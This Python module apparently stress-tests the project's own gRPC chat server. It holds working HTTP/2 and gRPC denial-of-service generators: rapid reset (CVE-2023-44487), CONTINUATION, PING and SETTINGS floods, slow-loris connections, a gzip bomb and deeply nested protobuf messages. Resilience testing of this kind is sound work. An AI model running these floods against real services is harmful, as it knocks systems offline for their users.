"""Attacks as endless bytes for a connection, and the attacker that sends them."""

from __future__ import annotations

import contextlib
import gzip
import itertools
import select
import socket
import struct
import time
from collections.abc import Callable, Iterator

import msgspec

from . import frames
from .frames import CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PING, RST_STREAM, SETTINGS

ATTACKER = "127.0.0.2"  # an address of its own, as the limits of addresses will have it
CHAT, LIST = "/alejo.v1.ChatService/Chat", "/alejo.v1.SessionsService/ListSessions"
ME = ("x-alejo-user", "mallory")
MIB = 1 << 20


class Gone(Exception):
    """The server has closed the connection."""


class Enemy:
    """A connection that reads and throws away what it is told, or, `deaf`, does not read."""

    def __init__(self, address: str, attack: Attack) -> None:
        host, _, port = address.rpartition(":")
        self.socket = socket.create_connection((host, int(port)), 10, source_address=(ATTACKER, 0))
        self._deaf = attack.deaf
        self._reader = frames.Reader()
        self._strikes = attack.strikes()
        self._left = memoryview(frames.hello(frames.WINDOW if attack.deaf else (1 << 31) - 1))
        self.socket.setblocking(False)
        self.struck = 0

    def go_on(self) -> None:
        """Sends and reads what can be now. Raises Gone."""
        try:
            readable, writable, _ = select.select([] if self._deaf else [self.socket], [self.socket], [], 0.0)
            if readable:
                self._read()
            if writable:
                if not self._left:
                    self._left = memoryview(next(self._strikes, b""))
                    self.struck += bool(self._left)
                self._left = self._left[self.socket.send(self._left[: 1 << 16]) :]
        except BlockingIOError:
            return
        except OSError:
            raise Gone from None

    def _read(self) -> None:
        received = self.socket.recv(1 << 16)
        if not received:
            raise Gone
        for one in self._reader.feed(received):
            if reply := frames.answers(one):
                self.socket.send(reply)


class Attack(msgspec.Struct, frozen=True):
    """A class of attack: what a connection sends, over how many of them, whether it never reads."""

    name: str
    strikes: Callable[[], Iterator[bytes]]
    connections: int = 1
    deaf: bool = False
    endless: bool = False  # good calls, only too many

    def run(self, address: str, seconds: float) -> int:
        """Strikes until the time is over, anew whenever it is thrown out. Returns how often it struck."""
        until, struck = time.monotonic() + seconds, 0
        enemies: list[Enemy] = []
        try:
            while time.monotonic() < until:
                if len(enemies) < self.connections:
                    with contextlib.suppress(OSError):
                        enemies.append(Enemy(address, self))
                for enemy in list(enemies) if len(enemies) < 64 or not struck % 64 else ():
                    try:
                        enemy.go_on()
                    except Gone:
                        struck += enemy.struck
                        enemies.remove(enemy)
                        enemy.socket.close()
                if len(enemies) >= 64:
                    time.sleep(0)  # lets the others of this process run
        finally:
            for enemy in enemies:
                struck += enemy.struck
                enemy.socket.close()
        return struck


def calls(body: bytes = b"", *, path: str = CHAT, flags: int = END_STREAM, after: bytes = b"") -> Iterator[bytes]:
    """Endless calls with one message, and a last frame after it."""
    block = frames.request(path, ME)
    for stream in range(1, 1 << 31, 2):
        sent = frames.frame(HEADERS, block, flags=END_HEADERS, stream=stream)
        for place in range(0, len(body), 16_384):
            last = place + 16_384 >= len(body)
            piece = body[place : place + 16_384]
            sent += frames.frame(DATA, piece, flags=flags if last else 0, stream=stream)
        yield sent + (frames.frame(RST_STREAM, after, stream=stream) if after else b"")


def rapid_resets() -> Iterator[bytes]:
    """Calls that are cancelled as soon as they have begun (CVE-2023-44487)."""
    return calls(after=frames.CANCEL)


def continuations(size: int) -> Iterator[bytes]:
    """A header block that never ends, in pieces of `size` bytes."""
    yield frames.frame(HEADERS, frames.request(CHAT), stream=1)
    piece = frames.block([("x-a", "a" * (size - 8))])[:size] if size else b""
    yield from itertools.repeat(frames.frame(CONTINUATION, piece, stream=1))


def metadata() -> Iterator[bytes]:
    """Calls with 64 KiB of metadata."""
    block = frames.request(CHAT, ("x-a", "a" * 60_000))
    for stream in range(1, 1 << 31, 2):
        yield b"".join(
            frames.frame(
                CONTINUATION if place else HEADERS,
                block[place : place + 16_000],
                flags=END_HEADERS if place + 16_000 >= len(block) else 0,
                stream=stream,
            )
            for place in range(0, len(block), 16_000)
        )


def pings() -> Iterator[bytes]:
    """Pings without end."""
    return itertools.repeat(frames.frame(PING, b"12345678"))


def settings() -> Iterator[bytes]:
    """Settings without end, each of which has to be acknowledged."""
    return itertools.repeat(frames.frame(SETTINGS, struct.pack(">HI", frames.INITIAL_WINDOW_SIZE, 1000)) * 10)


def half_open() -> Iterator[bytes]:
    """A thousand calls that never send their message."""
    return itertools.islice(calls(), 1_000)


def silence() -> Iterator[bytes]:
    """Nothing at all."""
    return iter(())


def slow_reader() -> Iterator[bytes]:
    """A few calls with large answers, which nobody reads."""
    return itertools.islice(calls(frames.message(b"\x08\xe8\x07"), path=LIST), 5)


def message_bomb() -> Iterator[bytes]:
    """Messages that say they have 1 GiB."""
    return calls(struct.pack(">BI", 0, 1 << 30) + b"\0" * 16_000, flags=0)


def large_messages() -> Iterator[bytes]:
    """Messages of almost 4 MiB each, the most that is taken."""
    return calls(frames.message(b"\x1a" + b"\x80\x80\xf8\x01" + b"a" * (4 * MIB - 32_768)))


def gzip_bomb() -> Iterator[bytes]:
    """Messages of 100 MiB in 100 KiB."""
    squeezed = gzip.compress(b"\0" * (100 * MIB), 9)
    block = frames.request(CHAT, ME, ("grpc-encoding", "gzip"))
    body = frames.message(squeezed, compressed=True)
    for stream in range(1, 1 << 31, 2):
        sent = frames.frame(HEADERS, block, flags=END_HEADERS, stream=stream)
        for place in range(0, len(body), 16_384):
            last = place + 16_384 >= len(body)
            sent += frames.frame(DATA, body[place : place + 16_384], flags=END_STREAM * last, stream=stream)
        yield sent


def nested() -> Iterator[bytes]:
    """Messages that are nested 10,000 deep."""
    return calls(frames.message(b"\x9b\x06" * 10_000 + b"\x9c\x06" * 10_000))


def stall() -> Iterator[bytes]:
    """Some turns that make a plugin block its thread for three seconds."""
    return itertools.islice(calls(frames.message(b"\x1a\x05block")), 16)


def turns() -> Iterator[bytes]:
    """Turns as fast as they can be sent."""
    return calls(frames.message(b"\x1a\x05hello"))


ATTACKS = (
    Attack("Rapid reset", rapid_resets, 4),
    Attack("CONTINUATION flood, empty frames", lambda: continuations(0), 4),
    Attack("CONTINUATION flood, 4,000 bytes a frame", lambda: continuations(4000), 4),
    Attack("Metadata of 64 KiB", metadata, 4),
    Attack("PING flood", pings, 4),
    Attack("SETTINGS flood", settings, 4),
    Attack("Half-open calls (slow loris)", half_open, 16),
    Attack("2,000 silent connections", silence, 2_000),
    Attack("Slow reader", slow_reader, 4, deaf=True),
    Attack("Message that claims 1 GiB", message_bomb, 4),
    Attack("Messages of 4 MiB", large_messages, 4),
    Attack("gzip bomb, 100 MiB in 100 KiB", gzip_bomb, 4),
    Attack("protobuf nested 10,000 deep", nested, 4),
    Attack("Turns with a plugin that blocks", stall, 4),
    Attack("Turns without end", turns, 4, endless=True),
)
